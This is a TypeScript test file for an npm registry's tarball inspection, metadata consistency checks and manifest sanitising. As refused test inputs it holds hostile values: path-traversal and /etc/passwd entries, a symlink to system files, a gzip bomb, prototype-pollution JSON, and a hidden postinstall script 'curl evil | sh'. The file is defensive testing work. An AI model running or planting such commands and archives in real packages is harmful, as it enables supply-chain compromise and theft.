import { createHash } from 'node:crypto'
import { buffer } from 'node:stream/consumers'
import { gzipSync } from 'node:zlib'
import { type Header, pack } from 'tar-stream'
import { describe, expect, test } from 'vitest'
import { Invalid } from '../../../src/errors.ts'
import { checkAgainstTarball, toManifest } from '../../../src/package-types/npm/metadata.ts'
import { inspectTarball, type TarballContents } from '../../../src/package-types/npm/tarball.ts'
import { digestsOf } from '../../../src/storage/digest.ts'
import { buildNpmTarball } from '../../support/builders/npm-tarball.ts'

type Entry = [Partial<Header> & { name: string }, (string | Buffer)?]

const packageJson = { name: 'a', version: '1.0.0' }
const main: Entry = [{ name: 'package/package.json' }, JSON.stringify(packageJson)]

async function archive(...entries: Entry[]): Promise<Buffer> {
  const archive = pack()
  for (const [header, content] of entries) archive.entry(header as Header, content ?? '')
  archive.finalize()
  return buffer(archive)
}

/** As the spool gives bytes: from any position, into a buffer of any size. Notes whether it was closed. */
class MemorySource {
  readonly size: number
  closed = 0
  readonly #bytes: Buffer

  constructor(bytes: Buffer) {
    this.#bytes = bytes
    this.size = bytes.length
  }

  async read(target: Buffer, position: number): Promise<number> {
    return this.#bytes.copy(target, 0, position, position + target.length)
  }

  close(): void {
    this.closed += 1
  }
}

function inspect(bytes: Buffer): Promise<TarballContents> {
  return inspectTarball(new MemorySource(bytes), bytes.length)
}

const inspectEntries = async (...entries: Entry[]) => inspect(gzipSync(await archive(...entries)))

describe('a tarball', () => {
  test('tells its package.json, files and sizes', async () => {
    const contents = await inspectEntries(
      [{ name: 'package/', type: 'directory' }],
      [{ name: 'package/index.js' }, 'x'.repeat(1000)],
      main,
      [{ name: 'package/sub/package.json' }, 'not JSON, and not looked at'],
      [{ name: `package/${'long/'.repeat(60)}name.js` }, 'y'],
    )
    expect(contents).toEqual({
      packageJson,
      fileCount: 4,
      unpackedSize: 1000 + JSON.stringify(packageJson).length + 27 + 1,
      hasShrinkwrap: false,
      hasGypFile: false,
    })
  })

  test('may have any first folder, a byte order mark, a shrinkwrap, a gyp file', async () => {
    const contents = await inspectEntries(
      [{ name: './left-pad-1.0/package.json' }, `\ufeff${JSON.stringify(packageJson)}`],
      [{ name: 'left-pad-1.0/npm-shrinkwrap.json' }, '{}'],
      [{ name: 'left-pad-1.0/binding.gyp' }, '{}'],
    )
    expect(contents).toMatchObject({ packageJson, hasShrinkwrap: true, hasGypFile: true })
  })

  test('is closed after reading, whatever comes of it', async () => {
    for (const bytes of [gzipSync(await archive(main)), Buffer.from('no gzip')]) {
      const source = new MemorySource(bytes)
      await inspectTarball(source, bytes.length).catch(() => {})
      expect(source.closed).toBe(1)
    }
  })

  test('of many megabytes is read in pieces', async () => {
    const { bytes } = await buildNpmTarball(packageJson, { padding: 3_000_000 })
    expect(await inspect(bytes)).toMatchObject({ packageJson, fileCount: 3 })
  })
})

describe('refused (S36)', () => {
  const refusedEntries: [string, Entry[]][] = [
    ['without package.json', [[{ name: 'package/index.js' }, 'x']]],
    ['with a package.json too deep', [[{ name: 'package/sub/package.json' }, '{}']]],
    ['with a package.json at the top', [[{ name: 'package.json' }, '{}']]],
    ['with two package.json', [main, main]],
    ['with two that differ in case', [main, [{ name: 'package/Package.JSON' }, '{}']]],
    ['with one in each of two folders', [main, [{ name: 'other/package.json' }, '{}']]],
    ['with one hidden behind dots', [main, [{ name: 'package/./package.json' }, '{}']]],
    ['with a link for package.json', [main, [{ name: 'package/package.json', type: 'link', linkname: 'package/x' }]]],
    ['with a symbolic link for it', [[{ name: 'package/package.json', type: 'symlink', linkname: '/etc/passwd' }]]],
    ['with a path to above', [main, [{ name: 'package/../../etc/passwd' }, 'x']]],
    ['with a path to above in another spelling', [main, [{ name: 'package\\..\\..\\x' }, 'x']]],
    ['with an absolute path', [main, [{ name: '/etc/passwd' }, 'x']]],
    ['with a drive letter', [main, [{ name: 'C:/windows/x' }, 'x']]],
    ['with a package.json that is no JSON', [[{ name: 'package/package.json' }, '{']]],
    ['with a package.json that is a list', [[{ name: 'package/package.json' }, '[]']]],
    ['with a package.json of 5 MB', [[{ name: 'package/package.json' }, Buffer.alloc(5_000_000, ' ')]]],
  ]
  test.each(refusedEntries)('%s', async (_what, entries) => {
    await expect(inspectEntries(...entries)).rejects.toThrow(Invalid)
  })

  test('not gzip, not tar, cut off, damaged', async () => {
    const tar = await archive(main, [{ name: 'package/x' }, 'y'.repeat(10_000)])
    const bytes = gzipSync(tar)
    const damaged = Buffer.from(bytes)
    damaged[Math.floor(bytes.length / 2)]! ^= 0xff
    for (const bad of [
      Buffer.alloc(0),
      Buffer.from('PK\x03\x04 a zip'),
      tar,
      gzipSync(Buffer.from('not tar')),
      gzipSync(Buffer.alloc(2000, 'x')),
      gzipSync(tar.subarray(0, 1500)),
      bytes.subarray(0, bytes.length - 12),
      damaged,
    ]) {
      await expect(inspect(bad)).rejects.toThrow(Invalid)
    }
  })

  test('an entry of a kind that only some programs know', async () => {
    const tar = await archive(main)
    const header = Buffer.from((await archive([{ name: 'package/other' }])).subarray(0, 512))
    header[156] = 'X'.charCodeAt(0)
    sign(header)
    await expect(inspect(gzipSync(Buffer.concat([header, tar])))).rejects.toThrow('unknown kind')
  })

  test('a bomb, before it has unpacked to much', async () => {
    // 600 MB of zeros in about 600 kB, built from equal members so that the test itself stays small.
    const start = gzipSync(await hugeHeader())
    const zeros = gzipSync(Buffer.alloc(10_000_000))
    const bytes = Buffer.concat([start, ...Array.from({ length: 60 }, () => zeros)])
    expect(bytes.length).toBeLessThan(1_000_000)
    await expect(inspect(bytes)).rejects.toThrow('unpacks to too much')
  })

  test('a crowd of entries', async () => {
    const tar = await archive(...Array.from({ length: 1000 }, (): Entry => [{ name: 'package/x' }]))
    const body = tar.subarray(0, 1000 * 512)
    const bytes = gzipSync(Buffer.concat([await withoutEnd(), ...Array.from({ length: 101 }, () => body)]))
    await expect(inspect(bytes)).rejects.toThrow('over 100000 entries')
  })
})

/** Puts the checksum of a tar header right. */
function sign(header: Buffer): void {
  let sum = 8 * 32
  for (let at = 0; at < 512; at += 1) if (at < 148 || at >= 156) sum += header[at]!
  header.write(`${sum.toString(8).padStart(6, '0')}\0 `, 148, 'latin1')
}

async function withoutEnd(): Promise<Buffer> {
  return (await archive(main)).subarray(0, 1024)
}

/** package.json, then the header of a file of 600 MB whose bytes follow from elsewhere. */
async function hugeHeader(): Promise<Buffer> {
  const header = (await archive([{ name: 'package/zeros' }])).subarray(0, 512)
  header.write(`${(600_000_000).toString(8).padStart(11, '0')}\0`, 124, 'latin1')
  sign(header)
  return Buffer.concat([await withoutEnd(), header])
}

describe('metadata and tarball must agree', () => {
  const contents = (json: object, more: Partial<TarballContents> = {}): TarballContents => ({
    packageJson: { ...packageJson, ...json },
    fileCount: 1,
    unpackedSize: 1,
    hasShrinkwrap: false,
    hasGypFile: false,
    ...more,
  })

  test.each<[string, object, object]>([
    ['the same', {}, {}],
    ['a version with v', {}, { version: 'v1.0.0' }],
    ['a version with build metadata', {}, { version: '1.0.0+7' }],
    ['a prefix that npm cuts', { scripts: { install: 'x' } }, { scripts: { install: './node_modules/.bin/x' } }],
    [
      'optional dependencies listed in one place',
      { optionalDependencies: { b: '1' } },
      { dependencies: { b: '1' }, optionalDependencies: { b: '1' } },
    ],
    [
      'bundled ones that npm adds',
      { dependencies: { b: '*' }, bundleDependencies: ['b'] },
      { bundledDependencies: ['b'] },
    ],
    ['a git address that npm rewrites', { dependencies: { b: 'github:x/b' } }, { dependencies: { b: 'x/b' } }],
    ['old lists', {}, { dependencies: ['b'] }],
    ['other scripts', { scripts: { test: 'x' } }, { scripts: { test: 'y' } }],
  ])('%s is fine', (_what, published, inTarball) => {
    expect(() => checkAgainstTarball({ ...packageJson, ...published }, contents(inTarball))).not.toThrow()
  })

  test('a script that npm adds for a gyp file is fine', () => {
    const published = { ...packageJson, scripts: { install: 'node-gyp rebuild' } }
    expect(() => checkAgainstTarball(published, contents({}, { hasGypFile: true }))).not.toThrow()
    expect(() => checkAgainstTarball(published, contents({}))).toThrow(Invalid)
  })

  test.each<[string, object, object]>([
    ['another name', {}, { name: 'b' }],
    ['no name', {}, { name: undefined }],
    ['another version', {}, { version: '1.0.1' }],
    ['no version', {}, { version: undefined }],
    ['a hidden install script', {}, { scripts: { postinstall: 'curl evil | sh' } }],
    ['another install script', { scripts: { preinstall: 'echo' } }, { scripts: { preinstall: 'curl' } }],
    ['an invented install script', { scripts: { install: 'x' } }, {}],
    ['a hidden dependency', {}, { dependencies: { evil: '1' } }],
    [
      'a hidden optional dependency',
      { dependencies: { b: '1' } },
      { dependencies: { b: '1' }, optionalDependencies: { evil: '1' } },
    ],
    ['a missing dependency', { dependencies: { b: '1' } }, {}],
  ])('%s is refused', (_what, published, inTarball) => {
    expect(() => checkAgainstTarball({ ...packageJson, ...published }, contents(inTarball))).toThrow(Invalid)
  })
})

describe('what is kept of a manifest', () => {
  const bytes = Buffer.from('tarball')
  const known = (contents: Partial<TarballContents> = {}) => ({
    name: 'a',
    version: '1.0.0',
    digests: digestsOf(bytes),
    contents: { packageJson, fileCount: 3, unpackedSize: 77, hasShrinkwrap: false, hasGypFile: false, ...contents },
    publisher: { name: 'alice', email: 'alice@noreply.example' },
  })

  test('is all but what a client must not decide', () => {
    const published = {
      ...packageJson,
      version: 'v1.0.0',
      exports: { '.': './x.js' },
      unknown: [1, { deep: null }],
      readme: '# a',
      readmeFilename: 'README.md',
      hasInstallScript: true,
      maintainers: [{ name: 'mallory' }],
      dist: { tarball: 'http://evil/', signatures: [{ keyid: 'x' }], attestations: { url: 'http://evil' } },
      integrity: 'sha512-x',
      shasum: 'x',
      _id: 'other@1',
      _npmUser: { name: 'mallory' },
      _nodeVersion: '20.0.0',
      _npmVersion: '11.0.0',
      _resolved: '/home/alice/a.tgz',
      _from: 'file:',
      _integrity: 'x',
      _hasShrinkwrap: true,
      deprecated: true,
    }
    expect(toManifest(published, known())).toEqual({
      ...packageJson,
      exports: { '.': './x.js' },
      unknown: [1, { deep: null }],
      readmeFilename: 'README.md',
      _id: 'a@1.0.0',
      _nodeVersion: '20.0.0',
      _npmVersion: '11.0.0',
      _npmUser: { name: 'alice', email: 'alice@noreply.example' },
      maintainers: [{ name: 'alice', email: 'alice@noreply.example' }],
      _hasShrinkwrap: false,
      dist: {
        integrity: `sha512-${createHash('sha512').update(bytes).digest('base64')}`,
        shasum: createHash('sha1').update(bytes).digest('hex'),
        fileCount: 3,
        unpackedSize: 77,
      },
    })
  })

  test('has what the tarball shows: install scripts, shrinkwrap', () => {
    const scripts = { packageJson: { ...packageJson, scripts: { postinstall: 'x' } } }
    expect(toManifest(packageJson, known(scripts))).toMatchObject({ hasInstallScript: true })
    expect(toManifest(packageJson, known({ hasGypFile: true }))).toMatchObject({ hasInstallScript: true })
    const noGyp = { hasGypFile: true, packageJson: { ...packageJson, gypfile: false } }
    expect(toManifest(packageJson, known(noGyp))).not.toHaveProperty('hasInstallScript')
    expect(toManifest(packageJson, known({ hasShrinkwrap: true }))).toMatchObject({ _hasShrinkwrap: true })
  })

  test('is not changed by a field called __proto__, which stays one where it is not at the top', () => {
    const text = '{"name":"a","version":"1.0.0","__proto__":{"polluted":1},"config":{"__proto__":{"polluted":2}}}'
    const manifest = toManifest(JSON.parse(text), known())
    expect(JSON.stringify(manifest)).toContain('"config":{"__proto__":{"polluted":2}}')
    expect((manifest as { polluted?: number }).polluted).toBeUndefined()
  })
})
